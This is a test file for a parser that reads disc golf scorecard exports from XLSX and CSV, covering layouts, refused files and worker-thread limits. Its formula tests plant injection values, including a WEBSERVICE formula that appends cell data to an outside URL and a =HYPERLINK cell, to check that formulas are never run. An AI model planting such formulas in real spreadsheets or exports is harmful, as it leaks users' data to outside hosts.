// Scorecards in XLSX workbooks: every shape of event export, and files that must be refused; read directly and in the thread.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { parse } from 'csv-parse/sync'
import { afterAll, describe, expect, test } from 'vitest'
import { built } from '../../../test/servers/built.ts'
import { workbookParts, xlsxFile, zipFile, type Cell, type Part, type SheetInput } from '../../../test/xlsx-file.ts'
import { asCells, eventSheet, hostileWorkbooks, rowXml, SHEET, whole, withPart } from '../../../test/hostile-scorecards.ts'
import { Refusal } from '../../platform/refusal.ts'
import { openScorecardReader, type ScorecardReader } from './scorecard-reader.ts'
import type { UdiscCard } from './udisc-card.ts'
import { parseUdiscFile, type UdiscFile } from './udisc-file.ts'
import { MAX_COLUMNS } from './udisc-table.ts'

const zone = 'Europe/Oslo'
const fixtures = join(import.meta.dirname, 'fixtures')
const csvRows = (path: string): string[][] => parse(readFileSync(path), { relax_column_count: true, bom: true })
const read = (bytes: Uint8Array): Promise<UdiscFile> => parseUdiscFile(bytes, { timeZone: zone })
const refusalOf = async (bytes: Uint8Array): Promise<Refusal> => {
  const outcome = await read(bytes).catch((error: unknown) => error)
  if (outcome instanceof Refusal) return outcome
  throw outcome instanceof Error ? outcome : new Error('the file was accepted')
}
const single = ({ cards }: UdiscFile): UdiscCard => {
  expect(cards).toHaveLength(1)
  return cards[0]!
}

/** An event export of so many holes; `before` and `after` are the columns that generations of the export have or have not. */
function eventRows(holes: number, options: { rating?: boolean; checkIn?: boolean; bagTag?: boolean } = {}): string[][] {
  const { rating = true, checkIn = true, bagTag = true } = options
  const heading = [
    ...'division position position_raw name event_relative_score event_total_score pdga_number username'.split(' '),
    'round_relative_score',
    'round_total_score',
    ...(rating ? ['round_rating'] : []),
    ...(checkIn ? ['paid', 'checked_in', 'starting_hole', 'start_time'] : []),
    ...Array.from({ length: holes }, (_, hole) => `hole_${hole + 1}`),
    ...(bagTag ? ['bag_tag_at_end'] : []),
  ]
  const player = (place: string, name: string, over: number, tag: string) => {
    const throws = Array.from({ length: holes }, (_, hole) => String(3 + (hole === 0 ? over : 0)))
    const total = String(holes * 3 + over)
    return [
      'MPO',
      place,
      '1',
      name,
      String(over),
      total,
      '',
      name.toLowerCase().replaceAll(/\W/g, ''),
      String(over),
      total,
      ...(rating ? ['200'] : []),
      ...(checkIn ? ['No', 'Yes', '1', 'Aug 27, 2026, 6:00 PM'] : []),
      ...throws,
      ...(bagTag ? [tag] : []),
    ]
  }
  return [
    heading,
    player('1', 'Ada Quist', -1, '4'),
    player('T2', 'Tom Berg & Cleo Marsh', 0, ''),
    player('T2', 'Eve, Dan', 0, '7'),
  ]
}

describe('event exports as workbooks', () => {
  test.each<[number, number, { rating?: boolean; checkIn?: boolean; bagTag?: boolean }]>([
    [18, 28, { rating: false, checkIn: false, bagTag: false }],
    [18, 33, { bagTag: false }],
    [18, 34, {}],
    [9, 25, {}],
    [27, 42, { bagTag: false }],
    [24, 40, {}],
  ])('%i holes in %i columns', async (holes, columns, options) => {
    const rows = eventRows(holes, options)
    expect(rows[0]).toHaveLength(columns)
    for (const inline of [false, true]) {
      const card = single(await read(xlsxFile([{ name: 'Event results', rows: asCells(rows) }], { inline })))
      expect(card).toMatchObject({ holes, parTotal: holes * 3 })
      expect(card.rows.map(({ name, throws, toPar, team }) => [name, throws, toPar, team])).toEqual([
        ['Ada Quist', holes * 3 - 1, -1, undefined],
        ['Tom Berg & Cleo Marsh', holes * 3, 0, ['Tom Berg', 'Cleo Marsh']],
        ['Eve, Dan', holes * 3, 0, undefined],
      ])
      if (options.checkIn !== false) expect(card.startedAt?.toISOString()).toBe('2026-08-27T16:00:00.000Z')
    }
  })

  test.each(readdirSync(fixtures).filter((name) => name.startsWith('event-')))('%s says the same as a workbook', async (file) => {
    const fromCsv = single(await read(readFileSync(join(fixtures, file))))
    expect(single(await read(xlsxFile([eventSheet(file)])))).toEqual(fromCsv)
  })

  test('the sheet is found by name among others, else by its heading, which is said', async () => {
    const notes: SheetInput = { name: 'Notes', rows: [['Thanks for playing'], ['See you']] }
    const named = single(await read(xlsxFile([notes, eventSheet('event-34.csv')])))
    expect(named.quirks.join()).not.toContain('sheet')
    const other = single(await read(xlsxFile([notes, { ...eventSheet('event-34.csv'), name: 'Pool A' }])))
    expect(other.rows).toEqual(named.rows)
    expect(other.layout).toBe('Pool A')
    expect(other.quirks.join()).toContain('from the sheet “Pool A”')
    const pools = ['Pool A', 'Pool B'].map((name) => ({ ...eventSheet('event-34.csv'), name }))
    expect((await read(xlsxFile(pools))).cards.map(({ layout }) => layout)).toEqual(['Pool A', 'Pool B'])
  })

  test('prefixed names, absolute targets, rich text and readings, UTF-16', async () => {
    const rows = asCells(eventRows(9))
    rows[1]![3] = {
      xml: '<c r="@" t="inlineStr"><is><r><t>Ada </t></r><r><t>Quist</t></r><rPh sb="0" eb="1"><t>アダ</t></rPh></is></c>',
    }
    const parts = workbookParts([{ name: 'event RESULTS', rows }]).map((part): Part => {
      let content = String(part.content)
      if (part.path === 'xl/_rels/workbook.xml.rels') content = content.replaceAll('Target="', 'Target="/xl/')
      if (part.path === 'xl/workbook.xml')
        content = content.replaceAll(/<(\/?)(workbook|sheets|sheet)\b/g, '<$1x:$2').replace('xmlns=', 'xmlns:x=')
      if (part.path === 'xl/sharedStrings.xml')
        return { ...part, content: Buffer.from(`\uFEFF${content.replace('UTF-8', 'UTF-16')}`, 'utf16le') }
      return { ...part, content }
    })
    expect(single(await read(zipFile(parts))).rows[0]).toMatchObject({ name: 'Ada Quist', username: 'adaquist' })
  })

  test('a scorecard that went through a spreadsheet keeps its start as the serial number it became', async () => {
    const rows: Cell[][] = [
      [
        'PlayerName',
        'CourseName',
        'LayoutName',
        'StartDate',
        'EndDate',
        'Total',
        '+/-',
        'RoundRating',
        'Hole1',
        'Hole2',
        'Hole3',
      ],
      ['Par', 'Lake', 'Main', 46143.378472222, 46143.4, 9, null, null, 3, 3, 3],
      ['Ada', 'Lake', 'Main', 46143.378472222, 46143.4, 10, 1, null, 3, 4, 3],
    ]
    const card = single(await read(xlsxFile([{ name: 'Sheet1', rows }])))
    expect(card).toMatchObject({ course: 'Lake', layout: 'Main', timeAssumption: 'local', pars: [3, 3, 3] })
    expect(card.startedAt?.toISOString()).toBe('2026-05-01T07:05:00.000Z')
  })
})

describe('formulas are never run', () => {
  test('the saved result is read, and a doubt says so', async () => {
    const rows = asCells(eventRows(9))
    rows[1]![15] = { formula: '1+1', value: 2 }
    rows[2]![6] = { formula: 'WEBSERVICE("https://example.com/"&A1)' }
    rows[3]![3] = { formula: 'HYPERLINK("https://example.com","Eve")', value: 'Eve, Dan' }
    const { cards, doubts } = await read(xlsxFile([{ name: 'Event results', rows }]))
    expect(cards[0]!.rows.map(({ name, throws }) => [name, throws])).toEqual([
      ['Ada Quist', 26],
      ['Tom Berg & Cleo Marsh', 27],
      ['Eve, Dan', 27],
    ])
    expect(doubts).toEqual([
      '3 cells hold formulas; nothing was calculated, the results saved in the file were read. 1 of them have no saved result and count as empty.',
    ])
  })

  test('a hole without a saved result was not played, an error leaves the row out', async () => {
    const rows = asCells(eventRows(9))
    rows[1]![15] = { formula: 'RAND()' }
    rows[3]![15] = { xml: '<c r="@" t="e"><f>1/0</f><v>#DIV/0!</v></c>' }
    const card = single(await read(xlsxFile([{ name: 'Event results', rows }])))
    expect(card.rows.map(({ name, dnf }) => [name, dnf])).toEqual([
      ['Ada Quist', true],
      ['Tom Berg & Cleo Marsh', false],
    ])
    expect(card.quirks.join('\n')).toContain('“#DIV/0!”')
  })

  test('in a CSV file they stay the text they are', async () => {
    const csv = readFileSync(join(fixtures, 'event-34.csv'), 'utf8').replace('Ada Quist', '"=HYPERLINK(""https://example.com"")"')
    expect(single(await read(Buffer.from(csv))).rows[0]!.name).toBe('=HYPERLINK("https://example.com")')
  })
})

test.each(hostileWorkbooks)('refused: %s', async (_, make, code) => {
  const refusal = await refusalOf(make())
  expect(refusal.code, refusal.message).toBe(code)
  expect(refusal.message).toMatch(/^[A-Z].{15,400}[.?]$/s)
})

test('rows that are only formatted do not count', async () => {
  const formatted = Array.from({ length: 50_000 }, (_, n) => rowXml(n + 10, '<c s="1"/>')).join('')
  expect(single(await read(withPart(SHEET, (xml) => xml.replace('</sheetData>', `${formatted}</sheetData>`)))).rows).toHaveLength(
    csvRows(join(fixtures, 'event-34.csv')).length - 1,
  )
  expect(MAX_COLUMNS).toBeGreaterThan(60 + 34)
})

describe('in the thread', () => {
  const reader = openScorecardReader()
  afterAll(() => reader.close())

  test('cards and refusals come out as they are', async () => {
    const bytes = xlsxFile([eventSheet('event-34.csv')])
    expect(await reader.read(bytes, { timeZone: zone })).toEqual(await read(bytes))
    await expect(reader.read(Buffer.from('a story'), { timeZone: zone })).rejects.toMatchObject({
      name: 'Refusal',
      code: 'scorecard.not-a-scorecard',
    })
    expect(await reader.read(bytes, { timeZone: zone })).toEqual(await read(bytes))
  })

  test('files that come together are read one after the other', async () => {
    const names = readdirSync(fixtures)
    const files = await Promise.all(names.map((name) => reader.read(readFileSync(join(fixtures, name)), { timeZone: zone })))
    expect(files).toEqual(await Promise.all(names.map((name) => read(readFileSync(join(fixtures, name))))))
  })

  test('a file that takes too long is given up, and the next one is read', async () => {
    const impatient = openScorecardReader({ limitMs: 1 })
    const large = `${readFileSync(join(fixtures, 'account.csv'), 'utf8')}${'x,Lake,Main,2026-05-01 0905,,3,,,3\n'.repeat(19_000)}`
    await expect(impatient.read(Buffer.from(large), { timeZone: zone })).rejects.toMatchObject({ code: 'scorecard.too-slow' })
    await impatient.close()
    await reader.read(whole, { timeZone: zone })
  })

  test('a file that takes too much memory is given up, and the next one is read', async () => {
    const poor = openScorecardReader({ memoryMb: 24, limitMs: 60_000 })
    const wide = `${'abc,'.repeat(110)}\n`.repeat(19_000)
    const large = Buffer.from(`${readFileSync(join(fixtures, 'account.csv'), 'utf8')}${wide}`)
    await expect(poor.read(large, { timeZone: zone })).rejects.toMatchObject({ code: 'scorecard.too-complex' })
    expect(
      (await poor.read(Buffer.from('a story'), { timeZone: zone }).catch((error: Refusal) => error)) as Refusal,
    ).toMatchObject({
      code: 'scorecard.not-a-scorecard',
    })
    await poor.close()
  })

  // Building takes long on a busy machine.
  test('the build brings the thread along', { timeout: 300_000 }, async () => {
    const { openScorecardReader: open } = (await import(
      pathToFileURL(join(await built(), 'features/score/scorecard-reader.js')).href
    )) as { openScorecardReader: () => ScorecardReader }
    const fromBuild = open()
    expect(await fromBuild.read(whole, { timeZone: zone })).toEqual(await read(whole))
    await fromBuild.close()
  })
})

// Real exports lie beside the checkout on machines that have them; they are not part of the project.
const samples = join(import.meta.dirname, '../../../../shared/udisc-samples')
const sampleNames = existsSync(samples) ? readdirSync(samples).filter((name) => name.endsWith('.csv')) : []
describe.skipIf(sampleNames.length === 0)('real exports as workbooks', () => {
  test.for(sampleNames)('%s', async (name) => {
    const fromCsv = await read(readFileSync(join(samples, name)))
    const rows = csvRows(join(samples, name))
    const sheet = { name: name.startsWith('event') ? 'Event results' : 'Sheet1', rows }
    expect((await read(xlsxFile([sheet]))).cards).toEqual(fromCsv.cards)
  })
})
